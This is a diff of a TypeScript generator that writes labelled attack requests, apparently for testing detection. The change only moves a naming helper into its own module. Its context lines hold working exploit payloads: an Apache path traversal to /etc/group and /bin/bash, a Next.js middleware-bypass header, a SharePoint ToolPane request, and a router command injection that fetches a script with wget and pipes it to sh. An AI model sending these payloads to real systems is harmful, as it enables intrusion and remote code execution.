@@ -1,5 +1,6 @@
 import type { Chance } from '../../make/chance.ts';
 import type { WholeWriter } from '../../make/whole.ts';
+import { named } from './named.ts';
 
 const form = 'application/x-www-form-urlencoded';
 
@@ -12,13 +13,8 @@ export function writeGates(write: WholeWriter, chance: Chance): void {
   writeDevices(write);
 }
 
-const named =
-  (write: WholeWriter): ((technique: string) => void) =>
-  technique =>
-    write.as({ class: 'advisory', technique });
-
 function writeProxies(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'advisory');
   technique('Apache: encoded dots and inner handlers');
   write.get('/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/group');
   write.send('/cgi-bin/%2e%2e/.%2e/%2e%2e/.%2e/bin/bash', form, 'echo Content-Type: text/plain; echo; hostname');
@@ -84,7 +80,7 @@ function writeProxies(write: WholeWriter): void {
 }
 
 function writeFrameworks(write: WholeWriter, chance: Chance): void {
-  const technique = named(write);
+  const technique = named(write, 'advisory');
   technique('Next.js: middleware that is skipped');
   write.get('/dashboard/users', {
     'x-middleware-subrequest': Array.from({ length: 5 }, () => 'src/middleware').join(':'),
@@ -166,7 +162,7 @@ function writeFrameworks(write: WholeWriter, chance: Chance): void {
 }
 
 function writeSites(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'advisory');
   technique('WordPress: plugins that run or tell');
   write.send(
     '/?rest_route=/litespeed/v1/cdn_status',
@@ -221,7 +217,7 @@ function writeSites(write: WholeWriter): void {
 }
 
 function writeFirms(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'advisory');
   technique('Exchange and SharePoint: fronts that trust');
   write.send(
     '/_layouts/15/ToolPane.aspx/x?DisplayMode=Edit&a=/ToolPane.aspx',
@@ -253,7 +249,7 @@ function writeFirms(write: WholeWriter): void {
 }
 
 function writeDevices(write: WholeWriter): void {
-  const technique = named(write);
+  const technique = named(write, 'advisory');
   technique('routers at home');
   write.send('/boaform/admin/formPing', form, 'target_addr=;wget+203.0.113.120/g+-O+-|sh&waninf=1_INTERNET_R_VID_1');
   write.send(
